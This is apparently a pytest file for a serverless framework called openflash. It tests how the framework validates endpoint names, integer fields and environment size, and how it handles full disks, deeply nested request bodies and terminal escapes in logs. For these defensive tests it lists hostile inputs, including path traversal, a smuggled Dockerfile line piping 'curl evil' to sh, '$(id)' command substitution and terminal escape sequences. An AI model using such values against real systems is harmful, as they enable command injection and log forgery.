"""What a decoration may hold, checked at decoration: an endpoint's name (it names files,
routes, Dockerfiles and log lines), integer fields, ``env`` against the OS's limits; a full disk
while building the worker runtime; what dead builders leave in the store's ``tmp/``."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from openflash import CpuLiveServerless, Endpoint, LiveServerless, remote
from openflash.config.limits import ARG_MAX, ENDPOINT_NAME, MAX_ARG_STRLEN
from openflash.errors import ConfigError
from openflash.prepare.preparer import Preparer
from openflash.runtime import process

from helpers import run_flash, write

Report = Callable[[str, str, str], None]
ROOT = Path(__file__).resolve().parents[2]

#: Every endpoint name in runpod/flash-examples (its programs and READMEs).
FLASH_EXAMPLES_NAMES = [
    "01_01_gpu_worker",
    "01_02_cpu_worker",
    "01_03_classify_pipeline",
    "01_03_mixed_inference",
    "01_03_mixed_workers_cpu",
    "01_03_mixed_workers_cpu_postprocess",
    "01_04_deps_cpu_numpy",
    "01_04_deps_data",
    "01_04_deps_gpu_numpy",
    "01_04_deps_minimal",
    "01_04_deps_ml",
    "01_04_deps_system",
    "02_01_text_to_speech_gpu",
    "03_05_load_balancer_cpu",
    "03_05_load_balancer_gpu",
    "04_01_always_on",
    "04_01_cpu_burst_ready",
    "04_01_cpu_scale_to_zero",
    "04_01_high_throughput",
    "04_01_scale_to_zero",
    "04_02_cpu_eu",
    "04_02_gpu_multi",
    "04_02_gpu_us",
    "05_01_cpu_worker",
    "05_01_gpu_worker",
    "anywhere",
    "api-worker",
    "batch-worker",
    "burst-worker",
    "classify_pipeline",
    "fetcher",
    "flash-05-volume",
    "global-worker",
    "gpu_worker",
    "image-gen",
    "inference",
    "inference_worker",
    "my-api",
    "my-service",
    "my-worker",
    "myapi_dev_gpu",
    "myapi_prod_gpu",
    "pipeline",
    "postprocess_worker",
    "preprocess",
    "preprocess_worker",
    "processor",
    "us-worker",
    "user-api",
    "vllm-service",
    "worker",
    "your-worker",
]

HOSTILE_NAMES = [
    "../x",
    "../../etc/passwd",
    "a/b",
    "/abs",
    "..",
    ".hidden",
    "-rf",
    "a\nRUN curl evil | sh",
    "a\rb",
    "\x1b[31mred",
    "\x1b]0;owned\x07",
    "\x9b2J",
    "tab\there",
    "a b",
    "a;b",
    "$(id)",
    "`id`",
    "caf\u00e9",
    "\u202eexe.txt",
    "x" * 129,
    "nul\x00",
    "",
    " ",
]


def _repo_names() -> set[str]:
    """The names this repository's tests, docs and examples give endpoints (this file's own
    are the hostile ones)."""
    found: set[str] = set()
    pattern = re.compile(r"(?:Serverless|LoadBalancer|Endpoint)\(\s*name=[\"']([^\"'{}]+)[\"']")
    for folder in ("tests", "docs", "examples", "bench", "src"):
        for path in (ROOT / folder).rglob("*"):
            if path.suffix in (".py", ".md") and path.is_file() and path != Path(__file__):
                found.update(pattern.findall(path.read_text(errors="replace")))
    return found - {" "}  # tests/config checks that a blank name is refused


def test_endpoint_names_follow_a_strict_pattern(report: Report) -> None:
    good = sorted({*FLASH_EXAMPLES_NAMES, *_repo_names()})
    assert len(good) > 80
    for name in good:
        assert LiveServerless(name=name).name == name
        assert Endpoint(name=name, cpu="cpu3c-1-2").name == name
    for name in HOSTILE_NAMES:
        for make in (
            lambda n=name: remote(CpuLiveServerless(name=n)),
            lambda n=name: Endpoint(name=n, cpu="cpu3c-1-2"),
        ):
            with pytest.raises(ConfigError) as info:
                make()
            text = str(info.value)
            assert ENDPOINT_NAME.pattern in text and ENDPOINT_NAME.pattern in info.value.hint
            assert repr(name)[:40] in text, text  # named, escaped
            for said in (info.value.message, info.value.hint):  # str(): both, on two lines
                assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", said), "raw control character"
    report(
        "bad input",
        f"{len(HOSTILE_NAMES)} endpoint names: paths, newlines (a Dockerfile's RUN line), "
        "terminal escape sequences, shell characters, non-ASCII, empty, over-long",
        "each refused at decoration with ConfigError naming it escaped, with the pattern "
        f"`{ENDPOINT_NAME.pattern}` in the hint; the {len(good)} names of runpod/flash-examples "
        "and of this repository's tests and docs all pass",
    )


BAD_INTEGERS = [
    {"executionTimeoutMs": 10**400},
    {"executionTimeoutMs": True},
    {"executionTimeoutMs": 30 * 86400 * 1000 + 1},
    {"workersMax": True},
    {"workersMax": 10**6},
    {"workersMin": False},
    {"idleTimeout": True},
    {"gpuCount": True},
    {"gpuCount": 10**9},
]


def test_integer_fields_refuse_bools_and_values_past_their_bounds(report: Report) -> None:
    for fields in BAD_INTEGERS:
        [(field, value)] = fields.items()
        with pytest.raises(ConfigError) as info:
            remote(LiveServerless(name="ints", **fields))
        text = str(info.value)
        assert field in text and len(text) < 400, text
        assert "not a bool" in text if isinstance(value, bool) else "largest value" in text
    for keyword in ({"execution_timeout_ms": True}, {"execution_timeout_ms": 10**400}):
        with pytest.raises(ConfigError, match="executionTimeoutMs"):
            Endpoint(name="ints", cpu="cpu3c-1-2", **keyword)
    for concurrency in (True, 10**400):
        with pytest.raises(ConfigError, match="max_concurrency must be >= 1"):
            Endpoint(name="ints", cpu="cpu3c-1-2", max_concurrency=concurrency)
    assert LiveServerless(name="ints", executionTimeoutMs=86400 * 1000).executionTimeoutMs
    report(
        "bad input",
        f"{len(BAD_INTEGERS) + 4} integer fields: `executionTimeoutMs=10**400` or `True`, bools "
        "and values past their bounds for workers, idleTimeout, gpuCount, max_concurrency",
        "each refused at decoration with ConfigError naming the field and the value (cut "
        "short); none reaches a call",
    )


def test_env_is_checked_against_the_os_limits(flash_home: Path, report: Report) -> None:
    too_long = {"BIG": "x" * MAX_ARG_STRLEN}
    with pytest.raises(ConfigError) as info:
        remote(CpuLiveServerless(name="env-size", env=too_long))
    assert "'BIG'" in str(info.value) and "MAX_ARG_STRLEN" in str(info.value)
    assert "pass large data as an argument" in info.value.hint
    many = {f"V{i}": "x" * (MAX_ARG_STRLEN - 100) for i in range(ARG_MAX // MAX_ARG_STRLEN)}
    with pytest.raises(ConfigError, match="ARG_MAX"):
        remote(CpuLiveServerless(name="env-size", env=many))

    # Just under the limit: the worker starts and sees it all.
    largest = {"BIG": "y" * (MAX_ARG_STRLEN - len("BIG=") - 1)}

    @remote(CpuLiveServerless(name="env-size", env=largest))
    def size() -> int:
        import os

        return len(os.environ["BIG"])

    assert asyncio.run(size()) == len(largest["BIG"])
    process.shutdown()
    report(
        "bad input",
        f"an `env=` value of {MAX_ARG_STRLEN} bytes, and variables past half of ARG_MAX "
        f"({ARG_MAX}) in all",
        "ConfigError at decoration naming the variable and MAX_ARG_STRLEN (or ARG_MAX), "
        "hinting at an argument or a file instead; a value one byte under the limit reaches "
        "the worker whole",
    )


def _in_tmpfs(script: str, home: Path, size: str) -> subprocess.CompletedProcess[str]:
    """``sh -c script`` with a tmpfs of ``size`` mounted on ``home``, in a mount namespace."""
    home.mkdir(parents=True, exist_ok=True)
    if shutil.which("unshare") is None:
        pytest.skip("needs unshare(1) to mount a small filesystem")
    argv = ["unshare", "--mount", "--propagation", "private"]
    if os.geteuid() != 0:
        argv += ["--user", "--map-root-user"]
    full = f'mount -t tmpfs -o size={size},mode=0700 tmpfs "$1" || exit 97\n{script}'
    done = subprocess.run(
        [*argv, "sh", "-c", full, "sh", str(home)], capture_output=True, text=True, timeout=600
    )
    if done.returncode == 97:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    return done


def test_a_full_disk_while_building_the_worker_runtime(tmp_path: Path, report: Report) -> None:
    from openflash.envs.bundle import _sources

    files = _sources()
    # Room for the runtime's sources (whole pages) and the store's folders, not its bytecode.
    room = sum(-(-len(data) // 4096) * 4096 for data in files.values()) + 16 * 4096
    home = tmp_path / "home"
    checker = write(
        tmp_path / "check.py",
        f"""
        import sys
        from pathlib import Path
        sys.path.insert(0, {str(ROOT / "src")!r})
        from openflash.envs.bundle import worker_runtime
        from openflash.envs.store import Store
        home = Path({str(home)!r})
        try:
            worker_runtime(Store(home / "store"))
        except Exception as e:
            print(type(e).__name__, e, sep="\\n")
            print("hint:", getattr(e, "hint", ""))
        print("left:", sorted(p.name for p in (home / "store" / "runtime").glob("*")),
              sorted(p.name for p in (home / "store" / "tmp").glob("*")))
        """,
    )
    done = _in_tmpfs(f'exec "{sys.executable}" "{checker}"', home, str(room))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == "StoreFullError", done.stdout + done.stderr
    assert "no space left on the device holding the store" in lines[1]
    assert "while building runtime/" in lines[1]
    assert lines[-1] == "left: [] []", "nothing partial kept"
    report(
        "disk",
        "a worker runtime built into a filesystem with room for its sources, not its bytecode",
        "StoreFullError (not RuntimeError) naming the store and runtime/<key>; nothing partial "
        "kept",
    )


BUILDER = """
import os, sys, time
from pathlib import Path
from openflash.envs.store import Store
store = Store(Path(sys.argv[1]))
with store.lock("envs", sys.argv[2]):
    tmp = store.root / "tmp" / f"envs-{sys.argv[2]}-abc123xy"
    tmp.mkdir(parents=True)
    (tmp / "half-built").write_text("x")
    print("building", flush=True)
    time.sleep(600)
"""


def _builder(home: Path, key: str) -> subprocess.Popen[str]:
    proc = subprocess.Popen(
        [sys.executable, "-c", BUILDER, str(home), key],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == "building"
    return proc


def test_leftovers_of_dead_builders_are_swept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, report: Report
) -> None:
    home = tmp_path / "home"
    monkeypatch.setenv("FLASH_HOME", str(home))
    dead_key, live_key = "d" * 24, "a" * 24
    dead = _builder(home, dead_key)
    os.kill(dead.pid, signal.SIGKILL)
    dead.wait()
    live = _builder(home, live_key)
    try:
        (home / "tmp" / f"removing-envs-{'e' * 24}-zz").mkdir()
        Preparer()  # a program's start (any openflash process preparing something)
        left = sorted(p.name for p in (home / "tmp").iterdir())
        assert left == [f"envs-{live_key}-abc123xy"], left  # a live builder's folder stays
    finally:
        os.kill(live.pid, signal.SIGKILL)  # now it is dead too: its folder is a leftover
        live.wait()
    pruned = run_flash(
        "env", "prune", "--older-than", "1000d", cwd=tmp_path, env={"FLASH_HOME": str(home)}
    )
    assert pruned.returncode == 0, pruned.stderr
    said = pruned.stdout + pruned.stderr
    assert "removed 1 folders that builders which died left in tmp/" in said, said
    assert list((home / "tmp").iterdir()) == []
    report(
        "builds",
        "leftovers in the store's tmp/ of a builder killed with SIGKILL and of a removal, beside "
        "a live builder's folder",
        "removed when the next program starts and by `flash env prune`; the live builder's "
        "folder is kept until it ends",
    )


def test_a_full_disk_while_writing_the_store_s_records(
    tmp_path: Path, uv_cache: Path, report: Report
) -> None:
    home = tmp_path / "home"
    program = write(
        tmp_path / "six_version.py",
        """
        import asyncio
        from openflash import CpuLiveServerless, remote

        @remote(CpuLiveServerless(name="full"), dependencies=["six==1.16.0"])
        def version():
            import six
            return six.__version__

        print(asyncio.run(version()))
        """,
    )
    checker = write(
        tmp_path / "check.py",
        f"""
        import os, subprocess, sys
        from pathlib import Path
        home = Path({str(home)!r})
        env = {{**os.environ, "FLASH_HOME": str(home / "store"),
                "FLASH_UV_CACHE_DIR": {str(uv_cache)!r}, "PYTHONPATH": {str(ROOT / "src")!r}}}
        fd = os.open(home / "filler", os.O_WRONLY | os.O_CREAT)  # the disk full, before the store
        try:
            while True:
                os.write(fd, b"x" * 4096)
        except OSError:
            os.close(fd)
        full = subprocess.run([sys.executable, {str(program)!r}], env=env,
                              capture_output=True, text=True, timeout=600)
        print(full.returncode)
        print(full.stderr.strip().splitlines()[-2] if full.stderr.strip() else "")
        os.unlink(home / "filler")
        again = subprocess.run([sys.executable, {str(program)!r}], env=env,
                               capture_output=True, text=True, timeout=600)
        print(again.stdout.strip() or again.stderr[-2000:])
        """,
    )
    done = _in_tmpfs(f'exec "{sys.executable}" "{checker}"', home, "1m")
    assert done.returncode == 0, done.stderr
    code, error, again = done.stdout.splitlines()[:3]
    assert code != "0"
    assert error.startswith(
        f"openflash.errors.StoreFullError: no space left on the device holding {home}/store/"
    ), done.stdout
    assert again == "1.16.0", done.stdout
    report(
        "disk",
        "a first call whose resolution cannot be written: FLASH_HOME on a full filesystem",
        "StoreFullError naming the file it was writing (not a bare OSError); after space was "
        "freed the same program ran",
    )


NESTED_PROJECT = """
from openflash import Endpoint

@Endpoint(name="nest")
def depth(data: dict) -> int:
    n = 0
    while isinstance(data, (dict, list)) and data:
        data = next(iter(data.values())) if isinstance(data, dict) else data[0]
        n += 1
    return n

@Endpoint(name="nest")
def anything(data):
    return 1
"""


def _nested(levels: int, kind: str) -> bytes:
    inner = b'{"a":' * levels + b"1" + b"}" * levels
    if kind == "list":
        inner = b"[" * levels + b"1" + b"]" * levels
    return b'{"input": {"data": ' + inner + b"}}"


def test_deep_nesting_in_a_request_body_is_4xx(
    tmp_path: Path, session_home: Path, uv_cache: Path, report: Report
) -> None:
    import httpx

    from openflash.server.security import MAX_DEPTH

    from helpers import FlashServer

    project = tmp_path / "project"
    write(project / "app.py", NESTED_PROJECT)
    env = {"FLASH_HOME": str(session_home), "FLASH_UV_CACHE_DIR": str(uv_cache)}
    answers = []
    with FlashServer(project, "--no-reload", env=env) as server:

        def post(path: str, body: bytes) -> httpx.Response:
            headers = {"content-type": "application/json"}
            return httpx.post(f"{server.url}{path}", content=body, headers=headers, timeout=60)

        # Within the bound: answered (the body's own two levels, input and data, count too).
        fine = post("/app/depth/runsync", _nested(MAX_DEPTH - 3, "object"))
        assert fine.status_code == 200 and fine.json()["output"] == MAX_DEPTH - 3, fine.text
        for levels in (MAX_DEPTH, 500, 900, 5_000, 100_000):
            for route in ("depth", "anything"):
                for kind in ("object", "list"):
                    for verb in ("runsync", "run"):
                        r = post(f"/app/{route}/{verb}", _nested(levels, kind))
                        answers.append(r.status_code)
                        assert 400 <= r.status_code < 500, (levels, route, kind, verb, r.text)
                        said = r.json().get("error") or r.json().get("detail")
                        assert said, r.text
        assert "500 Internal Server Error" not in server.output()
    report(
        "HTTP",
        f"{len(answers)} bodies nested {MAX_DEPTH} to 100,000 levels (objects and arrays) to "
        "runsync and run routes taking a dict or an unannotated value",
        f"each a 4xx saying what is wrong (beyond {MAX_DEPTH} levels: 400 before any call), "
        "never a 500; a body within the bound is answered",
    )


def test_names_reaching_the_terminal_have_control_characters_escaped(
    tmp_path: Path, session_home: Path, uv_cache: Path, report: Report
) -> None:
    import httpx

    from helpers import FlashServer

    project = tmp_path / "project"
    write(project / "app.py", NESTED_PROJECT)
    env = {"FLASH_HOME": str(session_home), "FLASH_UV_CACHE_DIR": str(uv_cache)}
    hostile = [
        "/app/%1b%5b2J%1b%5bHcleared",  # clear the screen, cursor home
        "/app/x%0a12:00:00 INFO:     forged line",  # a fake log line
        "/app/%1b%5d0%3bowned%07title",  # retitle the terminal
        "/app/%c2%9b31mred",  # C1 CSI
        "/app/%e2%80%aeevil",  # right-to-left override
    ]
    with FlashServer(project, "--no-reload", env=env) as server:
        for path in hostile:
            r = httpx.get(f"{server.url}{path}", timeout=30)
            assert r.status_code == 404, (path, r.status_code)
        ok = httpx.post(f"{server.url}/app/anything/runsync", json={"input": {"data": 1}})
        assert ok.status_code == 200
        output = server.output()
        for _ in range(100):  # until the last call's line is in (a bound, not a timing)
            if "/app/anything/runsync" in output:
                break
            threading.Event().wait(0.1)
            output = server.output()
    raw = [c for c in "\x1b\x07\x9b\u202e" if c in output]
    assert not raw, f"raw control characters reached the terminal: {raw!r}"
    assert "forged line" in output and "\n12:00:00 INFO:     forged line" not in output
    for seen in ("\\x1b[2J\\x1b[Hcleared", "x\\n12:00:00", "\\x1b]0;owned\\x07title", "\\x9b31m"):
        assert seen in output, (seen, output[-2000:])
    assert "\\u202eevil" in output
    report(
        "HTTP",
        f"{len(hostile)} request paths carrying terminal escapes (clear screen, retitle, C1 CSI, "
        "right-to-left override) and a newline forging a log line",
        "each logged with its control characters escaped (\\x1b, \\n, \\u202e); none reached "
        "the terminal raw, no forged line",
    )


def test_flash_build_never_sees_a_hostile_endpoint_name(tmp_path: Path, report: Report) -> None:
    project = tmp_path / "project"
    write(
        project / "app.py",
        """
        from openflash import Endpoint

        @Endpoint(name="../../escaped\\nRUN touch /tmp/openflash-pwned")
        def f(x: int) -> int:
            return x
        """,
    )
    done = run_flash("build", cwd=project, env={"FLASH_HOME": str(tmp_path / "home")})
    assert done.returncode != 0
    assert "not a valid endpoint name" in done.stderr and ENDPOINT_NAME.pattern in done.stderr
    assert "\\nRUN touch" in done.stderr  # the name is shown escaped
    made = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert made == ["project/app.py"], made
    report(
        "bad input",
        "`flash build` of a project whose endpoint name climbs out of .flash/build and carries "
        "a newline and a Dockerfile RUN line",
        "refused at decoration (ConfigError naming it escaped, with the pattern); no file "
        "written anywhere, no Dockerfile",
    )


def test_a_full_disk_under_uv_s_cache_while_resolving(tmp_path: Path, report: Report) -> None:
    cache = tmp_path / "uv-cache"
    program = write(
        tmp_path / "six_version.py",
        """
        import asyncio
        from openflash import CpuLiveServerless, remote

        @remote(CpuLiveServerless(name="full-cache"), dependencies=["six==1.16.0"])
        def version():
            import six
            return six.__version__

        print(asyncio.run(version()))
        """,
    )
    checker = write(
        tmp_path / "check.py",
        f"""
        import os, subprocess, sys
        env = {{**os.environ, "FLASH_HOME": {str(tmp_path / "home")!r},
                "FLASH_UV_CACHE_DIR": {str(cache)!r}, "PYTHONPATH": {str(ROOT / "src")!r}}}
        fd = os.open({str(cache / "filler")!r}, os.O_WRONLY | os.O_CREAT)
        try:
            while True:
                os.write(fd, b"x" * 4096)
        except OSError:
            os.close(fd)
        full = subprocess.run([sys.executable, {str(program)!r}], env=env,
                              capture_output=True, text=True, timeout=600)
        print(full.returncode)
        print(full.stderr)
        """,
    )
    done = _in_tmpfs(f'exec "{sys.executable}" "{checker}"', cache, "1m")
    assert done.returncode == 0, done.stderr
    code, _, stderr = done.stdout.partition("\n")
    assert code != "0"
    said = (
        f"openflash.errors.StoreFullError: no space left on the device holding uv's cache {cache}"
    )
    assert said in stderr, stderr[-3000:]
    report(
        "disk",
        "a first call whose uv cache (FLASH_UV_CACHE_DIR) is on a full filesystem",
        "StoreFullError naming uv's cache and quoting uv, not a DependencyError about the package",
    )
